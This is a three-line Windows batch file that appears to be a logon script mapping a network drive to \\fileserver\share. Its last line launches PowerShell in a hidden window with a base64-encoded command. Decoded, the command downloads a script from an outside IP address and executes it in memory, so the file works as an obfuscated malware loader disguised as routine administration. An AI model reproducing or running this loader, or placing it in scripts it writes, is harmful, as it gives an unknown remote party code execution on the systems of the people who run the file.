@echo off
net use Z: \\fileserver\share /persistent:no
powershell -w 1 -e aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOAAvAGQALgBwAHMAMQAgAC0AdQBzAGUAYgAgAHwAIABpAGUAeAA=
